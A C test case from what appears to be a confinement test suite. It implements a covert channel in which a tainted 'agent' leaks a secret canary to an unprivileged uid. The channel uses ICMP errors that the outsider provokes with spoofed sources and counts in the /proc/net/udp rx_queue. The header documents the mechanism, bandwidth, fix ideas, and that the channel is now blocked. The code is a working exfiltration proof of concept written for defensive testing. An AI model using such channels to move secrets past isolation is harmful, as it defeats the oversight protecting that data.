// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* udp_errqueue_self_source - the agent's UDP sockets' ERROR queue, which counts in rx_queue
 * (sk_rmem_alloc) in /proc/net/udp, filled by ICMP errors an outsider provokes in the agent's
 * name. ICMP errors reach a socket through icmp_rcv -> __udp4_lib_err -> ip_icmp_error, which
 * runs no socket filter: cgroup_skb/ingress never sees them.
 * After its recv the agent makes RQ_SOCKS UDP sockets and sets IP_RECVERR and SO_REUSEADDR on
 * each (both allowed while tainted: mnc_sockopt_switch), then has each autobound by a refused
 * sendto (0.0.0.0:P). An unprivileged outsider (uid 65534) finds them in /proc/net/udp (the
 * agent's uid, new since the "pre" sync); for each port P it binds its own SO_REUSEADDR socket to
 * 127.0.0.2:P and sends RQ_N + 1 datagrams carrying the index j with IP_PKTINFO source
 * 127.0.0.1 to a closed port of 127.0.0.1. The kernel answers each with ICMP port unreachable to
 * 127.0.0.1:P; __udp4_lib_err finds the agent's socket (the only one on 127.0.0.1:P or
 * 0.0.0.0:P) and, IP_RECVERR being set, queues the error with the offending payload (j). The
 * agent reads the first error (MSG_ERRQUEUE: j) and as many more as nibble j of the canary says;
 * uid 65534 reads rx_queue and divides by the size one such error takes (measured on a socket of
 * its own the same way). Verifier: the nibbles reassembled, compared with the canary.
 * Unlike udp_recvq_self_source the carrier never passes the agent socket's ingress filter (an
 * ICMP error is delivered without sk_filter), so a fix that makes ingress judge the real sender
 * would presumably leave it open (reasoned from the kernel source, not measured).
 * Result before the fix: host (cgroup backend, 6.18): LEAKED in user and root mode; positive control verified.
 * Bandwidth: 4 bits per socket as written (~8 possible), refillable at will; the outsider is
 * paced by ICMP's global rate limit (net.ipv4.icmp_msgs_per_sec 1000, burst 50): 4 bits per
 * 17 errors, about 130 bits/s as written (30 ms per socket), ~250 bits/s at the limit.
 * Fix idea: refuse IP_RECVERR/IPV6_RECVERR (and SO_REUSEADDR, which lets the outsider share the
 * agent's port) to a tainted agent - not enough alone: both can be set before the taint; the
 * sweep would have to find and close such sockets. A network namespace per agent
 * (/proc/net/udp and the port space are per namespace) closes the class.
 * Status: blocked: a tainted agent may not set IP_RECVERR / IPV6_RECVERR (mnc_sockopt_verdict,
 * both backends), and mncd's sweep turns them off on the agent's own datagram sockets at each
 * delivery, which purges the error queue. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <sys/socket.h>

#include "atk.h"
#include "atk_variants.h"

#define RQ_SOCKS 28 /* one per nibble of the 14-character canary */
#define RQ_N 16

/* one error from the error queue: its payload's first byte into *j */
static long errq(int s, unsigned char *j)
{
    char cbuf[512];
    struct iovec iov = {j, 1};
    struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
    return recvmsg(s, &m, MSG_ERRQUEUE | MSG_DONTWAIT);
}

static int agent(struct atk_ctx *c)
{
    atk_sync(c, "pre");
    int s[RQ_SOCKS];
    struct sockaddr_in nine = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int bound = 0, one = 1;
    for (int i = 0; i < RQ_SOCKS; i++) {
        s[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        long o = s[i] < 0 ? -1 : setsockopt(s[i], SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
        long e = s[i] < 0 ? -1 : setsockopt(s[i], IPPROTO_IP, IP_RECVERR, &one, sizeof(one));
        long r = s[i] < 0 ? -1 : sendto(s[i], "x", 1, 0, (struct sockaddr *)&nine, sizeof(nine));
        struct sockaddr_in me;
        socklen_t ml = sizeof(me);
        if (i == 0) {
            atk_try(c, "socket udp", s[i]);
            atk_try(c, "SO_REUSEADDR (tainted: allowed)", o);
            atk_try(c, "IP_RECVERR (tainted: allowed)", e);
            atk_try(c, "sendto 127.0.0.1:9 (autobinds even if refused)", r);
        }
        bound += s[i] >= 0 && getsockname(s[i], (struct sockaddr *)&me, &ml) == 0 && me.sin_port != 0;
    }
    atk_note(c, "%d sockets have a port", bound);
    unsigned char x;
    for (int i = 0; i < RQ_SOCKS; i++) /* errors of our own sends (untainted: the control) */
        while (s[i] >= 0 && errq(s[i], &x) >= 0)
            ;
    atk_sync(c, "bound"); /* the outsider provokes RQ_N + 1 ICMP errors to each */
    size_t n = strlen(c->secret);
    int got = 0;
    for (int i = 0; i < RQ_SOCKS; i++) {
        unsigned char j;
        if (s[i] < 0 || errq(s[i], &j) != 1 || j >= RQ_SOCKS || (size_t)j / 2 >= n)
            continue;
        unsigned v = (unsigned char)c->secret[j / 2];
        unsigned nib = j % 2 ? v & 15 : v >> 4;
        for (unsigned k = 0; k < nib; k++)
            if (errq(s[i], &j) != 1)
                break;
        got++;
    }
    atk_note(c, "read an index from %d of %d sockets", got, RQ_SOCKS);
    atk_sync(c, "read"); /* the sockets stay open until the agent exits */
    return 0;
}

/* UDP sockets in /proc/net/udp: (inode, uid, local address, local port, rx_queue) */
static struct atkv_udp_snap before;
static unsigned ports[RQ_SOCKS];
static int nports;

/* one datagram from 127.0.0.1:port (IP_PKTINFO source) on a socket bound to 127.0.0.2:port */
static unsigned closed_port;

static int send_from(int s, unsigned port, unsigned char j)
{
    (void)port;
    struct sockaddr_in to = {
        .sin_family = AF_INET, .sin_port = htons((uint16_t)closed_port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct iovec iov = {&j, 1};
    union {
        char buf[CMSG_SPACE(sizeof(struct in_pktinfo))];
        struct cmsghdr align;
    } u;
    memset(&u, 0, sizeof(u));
    struct msghdr m = {.msg_name = &to,
                       .msg_namelen = sizeof(to),
                       .msg_iov = &iov,
                       .msg_iovlen = 1,
                       .msg_control = u.buf,
                       .msg_controllen = sizeof(u.buf)};
    struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
    cm->cmsg_level = IPPROTO_IP;
    cm->cmsg_type = IP_PKTINFO;
    cm->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
    struct in_pktinfo pi = {.ipi_spec_dst.s_addr = htonl(INADDR_LOOPBACK)};
    memcpy(CMSG_DATA(cm), &pi, sizeof(pi));
    return sendmsg(s, &m, 0) == 1 ? 0 : -1;
}

/* a UDP port of 127.0.0.1 nobody listens on (bound and released) */
static unsigned free_port(void)
{
    int t = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t al = sizeof(a);
    if (t < 0 || bind(t, (struct sockaddr *)&a, sizeof(a)) != 0 || getsockname(t, (struct sockaddr *)&a, &al) != 0)
        return 9;
    close(t);
    return ntohs(a.sin_port);
}

/* uid 65534: queue RQ_N + 1 datagrams carrying j on each new socket of the agent, each from the
 * agent's own address and port; the ports in order of j go to out ("p,p,...;err") */
static int nobody_sends(struct atk_ctx *c, char *out, size_t n)
{
    static struct atkv_udp_sock now[4096];
    int k = atkv_udp_list("/proc/net/udp", now, 4096), np = 0, err = 0;
    size_t o = 0;
    out[0] = 0;
    closed_port = free_port();
    for (int i = 0; i < k && np < RQ_SOCKS; i++) {
        if (now[i].uid != (unsigned)c->agent_uid || atkv_udp_snap_has(&before, now[i].ino) ||
            (now[i].addr != 0 && now[i].addr != htonl(INADDR_LOOPBACK)))
            continue;
        int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), one = 1;
        if (s >= 0)
            setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
        struct sockaddr_in me = {.sin_family = AF_INET,
                                 .sin_port = htons((uint16_t)now[i].port),
                                 .sin_addr.s_addr = htonl(INADDR_LOOPBACK + 1)};
        if (s < 0 || bind(s, (struct sockaddr *)&me, sizeof(me)) != 0) {
            err = errno;
            if (s >= 0)
                close(s);
            continue;
        }
        unsigned char j = (unsigned char)np;
        for (int d = 0; d <= RQ_N; d++)
            if (send_from(s, now[i].port, j) != 0) {
                err = errno;
                break;
            }
        close(s);
        usleep(30000); /* ICMP's global rate limit: 1000/s, burst 50 (net.ipv4.icmp_msgs_*) */
        o += (size_t)snprintf(out + o, n - o, "%u,", now[i].port);
        np++;
        if (o >= n)
            break;
    }
    if (o < n)
        snprintf(out + o, n - o, ";%s", atk_errname(err));
    return 0;
}

/* uid 65534: the rx_queue of each port, in units of one datagram measured on its own socket */
static int nobody_reads_queues(struct atk_ctx *c, char *out, size_t cap)
{
    (void)c;
    char msg[RQ_SOCKS / 2 + 1] = {0};
    int r = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), one = 1;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct sockaddr_in to = {
        .sin_family = AF_INET, .sin_port = htons((uint16_t)free_port()), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t al = sizeof(a);
    if (r < 0 || setsockopt(r, IPPROTO_IP, IP_RECVERR, &one, sizeof(one)) != 0 ||
        bind(r, (struct sockaddr *)&a, sizeof(a)) != 0 || getsockname(r, (struct sockaddr *)&a, &al) != 0 ||
        sendto(r, "j", 1, 0, (struct sockaddr *)&to, sizeof(to)) != 1)
        return 0;
    usleep(20000);
    if (atkv_udp_nibbles("/proc/net/udp", ntohs(a.sin_port), ports, nports, RQ_N, msg, sizeof(msg)) != 0)
        return 0;
    snprintf(out, cap, "%s", msg);
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "pre") == 0) {
        atkv_udp_snap_take("/proc/net/udp", &before);
        nports = 0;
        return;
    }
    if (strcmp(tag, "bound") == 0) {
        char out[1024];
        if (atk_as_uid(c, ATK_NOBODY, nobody_sends, out, sizeof(out)) < 0)
            return;
        nports = atkv_udp_ports(out, ports, RQ_SOCKS);
        fprintf(stderr, "udp_errqueue_self_source: uid 65534 provoked errors for %d sockets (%s)\n", nports, out);
        return;
    }
    if (strcmp(tag, "read") != 0)
        return;
    char got[RQ_SOCKS / 2 + 2] = {0};
    if (atk_as_uid(c, ATK_NOBODY, nobody_reads_queues, got, sizeof(got)) >= 0 && strstr(got, c->canary))
        atk_evidence(c, "uid 65534 provoked ICMP port unreachable errors to the agent's UDP sockets (IP_RECVERR; "
                        "datagrams from the agent's address 127.0.0.1:P via IP_PKTINFO to a closed port) and read the "
                        "canary from their rx_queue in /proc/net/udp (how many errors the agent read)");
}

static const struct atk A = {"udp_errqueue_self_source",
                             "ICMP errors an outsider provokes in the agent's name, queued by IP_RECVERR, counted in "
                             "/proc/net/udp rx_queue",
                             0,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
